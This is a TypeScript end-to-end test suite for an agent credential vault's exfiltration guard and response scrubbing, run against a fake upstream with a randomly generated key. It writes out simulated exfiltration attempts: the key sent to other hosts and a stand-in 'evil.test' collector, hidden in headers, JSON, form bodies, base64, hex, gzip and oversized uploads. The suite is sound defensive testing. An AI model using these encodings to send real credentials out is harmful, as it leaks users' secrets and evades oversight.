// End-to-end attacks on the exfiltration guard and response scrubbing (issue 8), through the
// compiled binary. The agent holds a session and tries to send a credential's value out: in a
// query string, a header, a JSON body, a form body, base64'd, gzip'd, to an unmatched host and to
// another service's host. The fake upstream records every byte that reaches it (upstream.wire), so
// "blocked" means zero bytes arrived. Then upstreams echo the injected credential back (a header,
// a JSON body, a gzip'd body, an SSE stream that splits it across chunks) and the agent must see
// [REDACTED:KEY] instead.
import { beforeAll, describe, expect, test } from "bun:test";
import { randomBytes } from "node:crypto";
import { readFileSync } from "node:fs";
import { join } from "node:path";
import { gzipSync } from "node:zlib";
import { createSession } from "../../src/vault/sessions.ts";
import { homePaths } from "../../src/shared/paths.ts";
import { VaultStore } from "../../src/vault/vault.ts";
import { recordingCli, TEST_PASSWORD, type TempHome } from "../support/binary.ts";
import { basicProxyAuth, type HttpConnection, openTunnel, type RawResponse } from "../support/proxy-client.ts";
import { type Server, startServer } from "../support/server.ts";
import { type Upstream } from "../support/upstream.ts";
import { fileScene, sceneHome, sceneUpstream } from "../support/scene.ts";

const scene = fileScene("av-guard-e2e-");
const { cleanups, outputs } = scene;
// A value with + and / in it, like real base64 keys: its encoded forms differ from the raw one.
const SECRET = `sk_live_${randomBytes(18).toString("base64")}`;
const OTHER = `ghp_${randomBytes(15).toString("hex")}`;
const HOSTS = ["api.stripe.test", "api.github.test", "evil.test", "pinned.test"];

let H: TempHome;
let U: Upstream;
let S: Server;
let avCa: string;
let token: string;
const { ok } = recordingCli(
  () => H,
  () => ENV,
  outputs,
);
let ENV: Record<string, string>;

function wireFor(sni: string, since: number): Buffer {
  return Buffer.concat(
    U.wire
      .slice(since)
      .filter((w) => w.sni === sni)
      .map((w) => w.data),
  );
}

async function tunnel(host: string): Promise<HttpConnection> {
  const t = await openTunnel({ proxyPort: S.mitmPort, host, proxyAuthorization: basicProxyAuth(token), ca: [avCa, readFileSync(U.caFile, "utf8")] });
  expect(t.connect.status, t.connect.text).toBe(200);
  cleanups.push(() => t.conn!.close());
  return t.conn!;
}

async function send(host: string, method: string, path: string, headers: [string, string][] = [], body?: Buffer | string): Promise<{ res: RawResponse; wire: Buffer }> {
  const conn = await tunnel(host);
  const mark = U.wire.length;
  const res = await conn.request(method, path, [["Host", host], ...headers], body);
  outputs.push(res.text);
  await Bun.sleep(50);
  conn.close();
  return { res, wire: wireFor(host, mark) };
}

function expectBlocked(r: { res: RawResponse; wire: Buffer }, key = "STRIPE_KEY"): void {
  expect(r.res.status, r.res.text).toBe(403);
  expect(r.res.json()).toMatchObject({ error: "credential_exfiltration", credential: key });
  expect(r.res.text).not.toContain(SECRET);
  expect(r.wire.length).toBe(0);
}

beforeAll(async () => {
  U = await sceneUpstream(scene);
  H = await sceneHome(scene);
  ENV = { AGENT_VAULT_CONNECT_TO: HOSTS.map((h) => `${h}:443:127.0.0.1:${U.port}`).join(","), AGENT_VAULT_UPSTREAM_CA: U.caFile };
  await ok(["vault", "credential", "set", "STRIPE_KEY=-"], SECRET);
  await ok(["vault", "credential", "set", "GITHUB_TOKEN=-"], OTHER);
  await ok(["vault", "service", "add", "--name", "stripe", "--host", "api.stripe.test", "--auth-type", "bearer", "--token-key", "STRIPE_KEY"]);
  await ok(["vault", "service", "add", "--name", "github", "--host", "api.github.test", "--auth-type", "bearer", "--token-key", "GITHUB_TOKEN"]);
  await ok(["vault", "settings", "--unmatched", "guard", "--guard-bypass", "pinned.test"]);
  S = await startServer(H, ENV, cleanups);
  avCa = readFileSync(join(H.dir, "ca.pem"), "utf8");
  process.env.AGENT_VAULT_INSECURE_TEST_KDF = "1";
  const store = await VaultStore.unlock(homePaths(H.dir), async () => TEST_PASSWORD);
  token = (await createSession(store, "default", {})).token;
  // Echo routes for the scrubbing half.
  U.handler = (req, res) => {
    const auth = String(req.headers.authorization ?? "");
    const value = auth.replace(/^Bearer /, "");
    if (req.url === "/echo-json") {
      const reply = JSON.stringify({ you_sent: auth, nested: { token: value } });
      res.writeHead(200, { "content-type": "application/json", "x-echo": auth, "content-length": Buffer.byteLength(reply) });
      res.end(reply);
      return true;
    }
    if (req.url === "/echo-gzip") {
      const reply = gzipSync(JSON.stringify({ token: value }));
      res.writeHead(200, { "content-type": "application/json", "content-encoding": "gzip", "content-length": reply.length });
      res.end(reply);
      return true;
    }
    if (req.url === "/weird") {
      res.writeHead(200, { "content-encoding": "zstd", "content-length": 4 });
      res.end("abcd");
      return true;
    }
    if (req.url === "/stream") {
      res.writeHead(200, { "content-type": "text/event-stream", "cache-control": "no-cache" });
      const cut = Math.floor(value.length / 2);
      const parts = ["data: hello\n\n", `data: key=${value.slice(0, cut)}`, `${value.slice(cut)} end\n\n`, "data: bye\n\n"];
      let i = 0;
      const next = () => {
        if (i === parts.length) return res.end();
        res.write(parts[i++]);
        setTimeout(next, 150);
      };
      next();
      return true;
    }
    return false;
  };
}, 60_000);

describe("the guard blocks a credential on its way out, with zero bytes reaching the upstream", () => {
  test("the legitimate injection is not an exfiltration", async () => {
    const { res, wire } = await send("api.stripe.test", "GET", "/v1/charges", [["Authorization", "Bearer placeholder"]]);
    expect(res.status).toBe(200);
    expect(wire.toString("latin1")).toContain(`Bearer ${SECRET}`);
  });

  test("in a query string, to another service's host", async () => {
    expectBlocked(await send("api.github.test", "GET", `/search?q=${encodeURIComponent(SECRET)}`));
  });

  test("in a header", async () => {
    expectBlocked(await send("api.github.test", "GET", "/user", [["X-Debug", `token ${SECRET}`]]));
  });

  test("in a JSON body (with escaped slashes too)", async () => {
    expectBlocked(await send("api.github.test", "POST", "/gists", [["Content-Type", "application/json"]], JSON.stringify({ files: { "a.txt": { content: SECRET } } })));
    expectBlocked(await send("api.github.test", "POST", "/gists", [["Content-Type", "application/json"]], JSON.stringify({ c: SECRET }).replace(/\//g, "\\/")));
  });

  test("in a form body", async () => {
    expectBlocked(await send("api.github.test", "POST", "/form", [["Content-Type", "application/x-www-form-urlencoded"]], new URLSearchParams({ note: SECRET }).toString()));
  });

  test("base64'd, hex'd, and base64'd inside a longer text", async () => {
    expectBlocked(await send("api.github.test", "POST", "/b64", [], Buffer.from(SECRET).toString("base64")));
    expectBlocked(await send("api.github.test", "POST", "/hex", [], Buffer.from(SECRET).toString("hex")));
    expectBlocked(await send("api.github.test", "PUT", "/blob", [], Buffer.from(`user:${SECRET}:x`).toString("base64url")));
  });

  test("gzip'd (Content-Encoding: gzip)", async () => {
    expectBlocked(await send("api.github.test", "POST", "/gz", [["Content-Encoding", "gzip"]], gzipSync(JSON.stringify({ leak: SECRET }))));
  });

  test("to an unmatched host (the guard policy intercepts it; nothing is injected)", async () => {
    expectBlocked(await send("evil.test", "GET", `/collect?k=${SECRET}`));
    const clean = await send("evil.test", "GET", "/collect?k=nothing");
    expect(clean.res.status).toBe(200);
    expect(clean.wire.toString("latin1")).not.toContain("Bearer");
  });

  test("a streamed upload larger than the guard's buffer is cut before the value leaves", async () => {
    const conn = await tunnel("api.github.test");
    const mark = U.wire.length;
    const big = Buffer.concat([Buffer.alloc(9 * 1024 * 1024, "a"), Buffer.from(SECRET), Buffer.alloc(1024, "b")]);
    const res = await conn
      .request(
        "POST",
        "/upload",
        [
          ["Host", "api.github.test"],
          ["Content-Type", "application/octet-stream"],
        ],
        big,
        30_000,
      )
      .catch(() => null);
    await Bun.sleep(200);
    conn.close();
    const wire = wireFor("api.github.test", mark).toString("latin1");
    expect(wire).not.toContain(SECRET);
    expect(wire.length).toBeLessThan(big.length);
    if (res) expect(res.status).toBe(403);
  }, 30_000);

  test("a pinned host listed in --guard-bypass stays a plain tunnel: not intercepted, so not guarded either", async () => {
    // Only the upstream's own CA is trusted: the handshake succeeds only if nothing intercepts.
    const t = await openTunnel({ proxyPort: S.mitmPort, host: "pinned.test", proxyAuthorization: basicProxyAuth(token), ca: [readFileSync(U.caFile, "utf8")] });
    expect(t.connect.status).toBe(200);
    const mark = U.wire.length;
    const res = await t.conn!.request("GET", "/pinned", [
      ["Host", "pinned.test"],
      ["X-Note", "bypass-probe"],
    ]);
    t.conn!.close();
    expect(res.status).toBe(200);
    expect(wireFor("pinned.test", mark).toString("latin1")).toContain("X-Note: bypass-probe");
  });

  test("blocked requests are in the request log with the key, never the value", async () => {
    await Bun.sleep(100);
    const log = readFileSync(join(H.dir, "requests.log"), "utf8");
    const blocked = log.split("\n").filter((l) => l.includes('"credential_exfiltration"'));
    expect(blocked.length).toBeGreaterThanOrEqual(9);
    for (const line of blocked) expect(JSON.parse(line) as object).toMatchObject({ status: 403, blocked: "STRIPE_KEY" });
    expect(log).not.toContain(SECRET);
  });
});

describe("scrubbing replaces credential values in responses", () => {
  test("an upstream echoing the injected header and a JSON body with the value", async () => {
    const { res } = await send("api.stripe.test", "GET", "/echo-json", [["Authorization", "Bearer placeholder"]]);
    expect(res.status).toBe(200);
    expect(res.text).not.toContain(SECRET);
    expect(res.json()).toEqual({ you_sent: "Bearer [REDACTED:STRIPE_KEY]", nested: { token: "[REDACTED:STRIPE_KEY]" } });
    expect(res.headers["x-echo"]).toBe("Bearer [REDACTED:STRIPE_KEY]");
  });

  test("a gzip'd body is decoded, scrubbed and passed on decoded", async () => {
    const { res } = await send("api.stripe.test", "GET", "/echo-gzip");
    expect(res.status).toBe(200);
    expect(res.headers["content-encoding"]).toBeUndefined();
    expect(res.json()).toEqual({ token: "[REDACTED:STRIPE_KEY]" });
  });

  test("a body whose encoding cannot be scanned is refused with 502", async () => {
    const { res } = await send("api.stripe.test", "GET", "/weird");
    expect(res.status).toBe(502);
    expect(res.json().message).toContain("cannot be scanned");
  });

  test("an SSE stream splitting the value across chunks is scrubbed and still streams", async () => {
    const conn = await tunnel("api.stripe.test");
    const socket = conn.socket;
    const started = Date.now();
    const arrivals: { at: number; text: string }[] = [];
    const done = new Promise<void>((resolve) => {
      socket.on("data", (d: Buffer) => {
        arrivals.push({ at: Date.now() - started, text: d.toString("latin1") });
        if (d.toString("latin1").includes("data: bye")) resolve();
      });
    });
    socket.write("GET /stream HTTP/1.1\r\nHost: api.stripe.test\r\n\r\n");
    await done;
    conn.close();
    const raw = arrivals.map((a) => a.text).join("");
    // The body as the agent's HTTP client reads it: chunk framing removed.
    const all = raw.slice(raw.indexOf("\r\n\r\n") + 4).replace(/(^|\r\n)[0-9a-f]+\r\n/g, "");
    expect(all).toContain("data: key=[REDACTED:STRIPE_KEY] end");
    expect(all).not.toContain(SECRET);
    expect(all).not.toContain(SECRET.slice(0, Math.floor(SECRET.length / 2)));
    // The first event came before the upstream had sent the rest: nothing waits for the end.
    const hello = arrivals.find((a) => a.text.includes("data: hello"))!;
    expect(hello.at).toBeLessThan(300);
  });

  test("with --scrub off and --guard off the vault passes values through (the switches work)", async () => {
    const mark = outputs.length;
    await ok(["vault", "settings", "--scrub", "off", "--guard", "off"]);
    await Bun.sleep(50);
    const { res } = await send("api.stripe.test", "GET", "/echo-json");
    expect((res.json() as { nested: { token: string } }).nested.token).toBe(SECRET);
    const leak = await send("api.github.test", "GET", `/search?q=${SECRET}`);
    expect(leak.res.status).toBe(200);
    // These answers carry the value by design; the final check is about everything else.
    outputs.splice(mark);
    await ok(["vault", "settings", "--scrub", "on", "--guard", "on"]);
  });
});

describe("secrets", () => {
  test("the value is in no output of the CLI, the server, or the log", async () => {
    const log = readFileSync(join(H.dir, "requests.log"), "utf8");
    expect(outputs.length).toBeGreaterThan(20);
    for (const hay of [...outputs, log, S.live.stdout, S.live.stderr]) expect(hay.includes(SECRET)).toBe(false);
  });
});
